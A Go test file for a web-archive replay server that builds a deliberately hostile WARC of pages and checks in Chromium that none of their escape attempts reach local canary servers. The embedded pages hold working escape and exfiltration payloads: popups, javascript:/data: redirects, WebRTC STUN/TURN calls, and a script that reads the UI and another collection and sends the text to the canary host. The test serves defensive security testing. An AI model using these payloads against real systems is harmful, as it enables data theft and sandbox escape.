package replay

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/chromedp/chromedp"

	"github.com/warcbox/warcbox/internal/testbrowser"
)

// canaries are the live web a hostile archive tries to reach: an HTTP
// server, a UDP socket (STUN) and a TCP listener (TURN), all on
// 127.0.0.1, each counting what reaches it.
type canaries struct {
	http     *httptest.Server
	udp      net.PacketConn
	tcp      net.Listener
	mu       sync.Mutex
	hits     []string
	packets  int
	conns    int
	shutdown chan struct{}
}

func newCanaries(t *testing.T) *canaries {
	c := &canaries{shutdown: make(chan struct{})}
	c.http = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.hits = append(c.hits, r.Method+" "+r.URL.String())
		c.mu.Unlock()
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>LIVE WEB</title>live")
	}))
	var err error
	if c.udp, err = net.ListenPacket("udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	if c.tcp, err = net.Listen("tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := c.udp.ReadFrom(buf); err != nil {
				return
			}
			c.mu.Lock()
			c.packets++
			c.mu.Unlock()
		}
	}()
	go func() {
		for {
			conn, err := c.tcp.Accept()
			if err != nil {
				return
			}
			c.mu.Lock()
			c.conns++
			c.mu.Unlock()
			conn.Close()
		}
	}()
	t.Cleanup(func() { c.http.Close(); c.udp.Close(); c.tcp.Close() })
	return c
}

// take returns and forgets what reached the canaries.
func (c *canaries) take() (hits []string, packets, conns int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	hits, packets, conns = c.hits, c.packets, c.conns
	c.hits, c.packets, c.conns = nil, 0, 0
	return
}

func httpResp(ct string, extra string, body string) string {
	h := "HTTP/1.1 200 OK\r\n"
	if ct != "" {
		h += "Content-Type: " + ct + "\r\n"
	}
	return h + extra + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(body)) + body
}

func utf16LE(s string) string {
	var b bytes.Buffer
	b.Write([]byte{0xff, 0xfe})
	for _, r := range utf16.Encode([]rune(s)) {
		binary.Write(&b, binary.LittleEndian, r)
	}
	return b.String()
}

const hostileTS = "20240101000000"

// hostileArchive writes a WARC of pages that try every escape of issue 12
// towards the canaries, and returns its path.
func hostileArchive(t *testing.T, c *canaries) string {
	live := c.http.URL
	stun := c.udp.LocalAddr().String()
	turn := c.tcp.Addr().String()
	leak := func(tag string) string {
		// every way out a script has: navigation, a popup, a beacon
		return fmt.Sprintf(`<script>document.title="ran";try{window.open(%q)}catch(e){};location.href=%q;</script>`, live+"/"+tag+"-popup", live+"/"+tag)
	}
	page := func(tag string) string {
		return "<!doctype html><html><head><title>" + tag + "</title></head><body><p>" + tag + "</p>" + leak(tag) + "</body></html>"
	}
	rtc := fmt.Sprintf(`function rtc(W){try{var pc=new W.RTCPeerConnection({iceServers:[{urls:"stun:%s"},{urls:"turn:%s?transport=tcp",username:"u",credential:"p"}]});
pc.createDataChannel("x");pc.createOffer().then(function(o){return pc.setLocalDescription(o)}).catch(function(){});}catch(e){document.title+=" rtc:"+e.name}}`, stun, turn)
	records := []struct{ url, block string }{
		// 1. served without rewriting or the client
		{"http://hostile.test/noct", "HTTP/1.1 200 OK\r\n" + fmt.Sprintf("Content-Length: %d\r\n\r\n", len(page("noct"))) + page("noct")},
		{"http://hostile.test/unkenc", httpResp("text/html", "Content-Encoding: x-bogus\r\n", page("unkenc"))},
		{"http://hostile.test/xhtml", httpResp("application/xml", "", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>`+
			fmt.Sprintf(`<script>location.href=%q</script>`, live+"/xhtml")+`</body></html>`)},
		{"http://hostile.test/utf16", httpResp("text/html; charset=utf-16", "", utf16LE(page("utf16")))},
		{"http://hostile.test/svg", httpResp("image/svg+xml", "", fmt.Sprintf(`<svg xmlns="http://www.w3.org/2000/svg"><script>location.href=%q</script></svg>`, live+"/svg"))},
		{"http://hostile.test/raw", httpResp("text/html", "", page("raw"))},
		// 2. a replayed page that sends itself to its raw copy, which
		// reads the UI and another collection
		{"http://hostile.test/chain", httpResp("text/html", "", `<!doctype html><title>chain</title><script>
var real = performance.getEntriesByType("navigation")[0].name;
if (real.indexOf("oe_/") < 0) {
  top.location.href = real.replace(/\/([0-9]{14})[a-z_]*\//, "/$1oe_/");
} else {
  var o = new URL(real).origin;
  Promise.all([fetch(o + "/").then(function (r) { return r.text() }), fetch(o + "/other/").then(function (r) { return r.text() })])
   .then(function (t) { location.href = "`+live+`/chain?" + encodeURIComponent(t.join("|").slice(0, 500)); }, function (e) { location.href = "`+live+`/chain-err"; });
}
</script>`)},
		// 3. WebRTC, from the page and from a frame it makes
		{"http://hostile.test/rtc", httpResp("text/html", "", `<!doctype html><title>rtc</title><script>`+rtc+`
rtc(window);
var f = document.createElement("iframe"); document.body.appendChild(f); rtc(f.contentWindow);
if (window.RTCDataChannel) { try { new RTCDataChannel(); } catch (e) {} }
</script>`)},
		// 4. headers
		{"http://hostile.test/locjs", "HTTP/1.1 302 Found\r\nLocation: javascript:location.href='" + live + "/locjs'\r\nContent-Length: 0\r\n\r\n"},
		{"http://hostile.test/locdata", "HTTP/1.1 302 Found\r\nLocation: data:text/html,<script>location.href='" + live + "/locdata'</script>\r\nContent-Length: 0\r\n\r\n"},
		{"http://hostile.test/refresh", httpResp("text/html", "Refresh: 0; url=javascript:location.href='"+live+"/refresh'\r\n", "<title>refresh</title>wait")},
		// 5. popups from windows the guard did not watch, clicked for real
		{"http://hostile.test/popups", httpResp("text/html", "", `<!doctype html><title>popups</title><body style="margin:0">
<button id="b1" style="display:block;width:300px;height:40px">frame popup</button>
<div id="l2" style="display:block;width:300px;height:40px"></div>
<button id="b3" style="display:block;width:300px;height:40px">adopted</button>
<button id="b4" style="display:block;width:300px;height:40px">blank popup</button>
<script>
var LIVE = "`+live+`";
var f0 = document.createElement("iframe"); f0.style.display = "none"; document.body.appendChild(f0);
var w0 = f0.contentWindow;
document.getElementById("b1").onclick = function () {
  var f = document.createElement("iframe"); document.body.appendChild(f);
  f.contentWindow.open(LIVE + "/p1");
  w0.open(LIVE + "/p1b");
};
// in a closed shadow root, where a document-wide observer does not look
var sr = document.getElementById("l2").attachShadow({ mode: "closed" });
sr.innerHTML = '<a target="_blank" href="/nothing" style="display:block;width:300px;height:40px">attr node</a>';
sr.querySelector("a").getAttributeNode("href").value = LIVE + "/p2";
document.getElementById("b3").onclick = function () {
  var d = new DOMParser().parseFromString('<a target="_blank" href="' + LIVE + '/p3">x</a>', "text/html");
  var a = document.adoptNode(d.querySelector("a")); document.body.appendChild(a); a.click();
};
// a frame whose document comes from srcdoc set at run time
var f5 = document.createElement("iframe"); f5.id = "f5"; f5.style.cssText = "display:block;width:300px;height:60px;border:0";
f5.srcdoc = '<body style="margin:0"><a target="_blank" href="' + LIVE + '/p5" style="display:block;width:300px;height:60px">srcdoc</a></body>';
document.body.appendChild(f5);
document.getElementById("b4").onclick = function () {
  var w = window.open(""); w.document.write('<a id="x" href="' + LIVE + '/p4">x</a>'); w.document.getElementById("x").click();
};
</script>`)},
	}
	var b bytes.Buffer
	for _, r := range records {
		b.WriteString(warcRecord(r.url, "2024-01-01T00:00:00Z", r.block))
	}
	p := filepath.Join(t.TempDir(), "hostile.warc")
	if err := os.WriteFile(p, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestBrowserEscapes replays issue 12's hostile pages in Chromium with
// popup blocking on and real clicks; the canaries must see nothing.
func TestBrowserEscapes(t *testing.T) {
	testbrowser.Path(t)
	if testing.Short() {
		t.Skip("browser test skipped in -short mode")
	}
	c := newCanaries(t)
	warcPath := hostileArchive(t, c)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	// a second collection, which the hostile one must not read
	other := filepath.Join(t.TempDir(), "collections")
	for _, name := range []string{"hostile", "other"} {
		os.MkdirAll(filepath.Join(other, name, "archive"), 0o755)
	}
	b, _ := os.ReadFile(warcPath)
	os.WriteFile(filepath.Join(other, "hostile", "archive", "hostile.warc"), b, 0o644)
	os.WriteFile(filepath.Join(other, "other", "archive", "secret.warc"), []byte(warcRecord("http://secret.test/", "2024-01-01T00:00:00Z", httpResp("text/plain", "", "SECRET"))), 0o644)
	s, err := New(ctx, Config{Paths: []string{other}, PollInterval: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	ui := serveSplit(t, s)
	bctx := testbrowser.Context(t, 120*time.Second, chromedp.Flag("disable-popup-blocking", false))
	if err := chromedp.Do(bctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	check := func(name string) {
		t.Helper()
		time.Sleep(1200 * time.Millisecond)
		hits, packets, conns := c.take()
		if len(hits) > 0 || packets > 0 || conns > 0 {
			t.Errorf("%s escaped: HTTP %v, %d UDP packets, %d TCP connections", name, hits, packets, conns)
		}
	}
	visit := func(name, mod, url string) {
		t.Helper()
		if err := chromedp.Do(bctx, chromedp.Navigate(ui+"/hostile/"+hostileTS+mod+"/"+url)); err != nil {
			t.Logf("%s: %v", name, err) // a blocked or failed load is fine; the canaries judge
		}
	}
	for _, p := range []string{"noct", "unkenc", "xhtml", "utf16", "svg"} {
		visit(p, "", "http://hostile.test/"+p)
		check("1. unrewritten " + p)
	}
	for _, mod := range []string{"oe_", "id_", "im_"} {
		visit(mod, mod, "http://hostile.test/raw")
		check("1. raw modifier " + mod)
	}
	// Pages run framed (the UI's top frame around the content origin) and
	// at the top of the window on the content origin (mp_): both must hold.
	for _, mode := range []string{"", "mp_"} {
		in := " (framed)"
		if mode != "" {
			in = " (top-level " + mode + ")"
		}
		visit("chain", mode, "http://hostile.test/chain")
		check("2. chained oe_ + fetch of the UI" + in)
		visit("rtc", mode, "http://hostile.test/rtc")
		check("3. WebRTC" + in)
		for _, p := range []string{"locjs", "locdata", "refresh"} {
			visit(p, mode, "http://hostile.test/"+p)
			check("4. header " + p + in)
		}
		for _, sel := range []string{"#b1", "#l2", "#b3", "#b4", "#f5"} {
			visit("popups", mode, "http://hostile.test/popups")
			before := pageURLs(t, bctx)
			if err := chromedp.Do(bctx, chromedp.WaitVisible(sel), chromedp.Click(sel)); err != nil {
				t.Errorf("clicking %s%s: %v", sel, in, err)
			}
			check("5. popup " + sel + in)
			// the popup did open (the test is not vacuous), into the archive
			var opened []string
			for u := range pageURLs(t, bctx) {
				if !before[u] {
					opened = append(opened, u)
				}
			}
			t.Logf("%s%s opened %q", sel, in, opened)
			if len(opened) == 0 {
				t.Errorf("%s%s: no popup opened", sel, in)
			}
			for _, u := range opened {
				if !strings.Contains(u, "/hostile/") {
					t.Errorf("%s%s: popup at %q, outside the archive", sel, in, u)
				}
			}
		}
	}
	if !strings.HasPrefix(ui, "http://127.0.0.1:") {
		t.Fatalf("ui %s", ui)
	}
}

// pageURLs lists the URLs of the browser's open pages.
func pageURLs(t *testing.T, ctx context.Context) map[string]bool {
	infos, err := chromedp.Targets(ctx)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]bool{}
	for _, in := range infos {
		if in.Type == "page" {
			out[in.URL+" "+string(in.TargetID)] = true
		}
	}
	return out
}

// TestUnrewrittenSandboxed checks the headers the browser test relies on,
// without a browser.
func TestUnrewrittenSandboxed(t *testing.T) {
	c := newCanaries(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	s, err := New(ctx, Config{Paths: []string{hostileArchive(t, c)}, Name: "hostile", PollInterval: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	srv := httptest.NewServer(s)
	defer srv.Close()
	sandboxed := func(h http.Header) bool {
		for _, v := range h.Values("Content-Security-Policy") {
			if v == "sandbox" {
				return h.Get("X-Content-Type-Options") == "nosniff"
			}
		}
		return false
	}
	for _, p := range []string{"/noct", "/unkenc", "/xhtml", "/utf16", "/svg"} {
		for _, method := range []string{"GET", "HEAD"} {
			req, _ := http.NewRequest(method, srv.URL+"/hostile/"+hostileTS+"/http://hostile.test"+p, nil)
			resp, _ := do(t, req)
			if resp.StatusCode != 200 || !sandboxed(resp.Header) {
				t.Errorf("%s %s: %d, not sandboxed: %v", method, p, resp.StatusCode, resp.Header)
			}
			if ct := resp.Header.Get("Content-Type"); p == "/noct" && ct != "" && ct != "application/octet-stream" {
				t.Errorf("no Content-Type recorded, %q sent (sniffed)", resp.Header.Get("Content-Type"))
			}
		}
	}
	for _, mod := range []string{"oe_", "id_", "im_"} {
		resp, _ := get(t, srv.URL+"/hostile/"+hostileTS+mod+"/http://hostile.test/raw", "Range", "bytes=0-3")
		if !sandboxed(resp.Header) {
			t.Errorf("%s: not sandboxed: %v", mod, resp.Header)
		}
	}
	resp, body := get(t, srv.URL+"/hostile/"+hostileTS+"/http://hostile.test/chain")
	if sandboxed(resp.Header) || !strings.Contains(body, "client.js") {
		t.Errorf("a rewritten page was sandboxed or lost its client: %v", resp.Header)
	}
	for _, p := range []string{"/locjs", "/locdata"} {
		resp, _ := get(t, srv.URL+"/hostile/"+hostileTS+"/http://hostile.test"+p)
		if loc := resp.Header.Get("Location"); loc != "" {
			t.Errorf("%s: Location %q passed", p, loc)
		}
	}
	resp, _ = get(t, srv.URL+"/hostile/"+hostileTS+"/http://hostile.test/refresh")
	if r := resp.Header.Get("Refresh"); r != "" {
		t.Errorf("Refresh %q passed", r)
	}
}
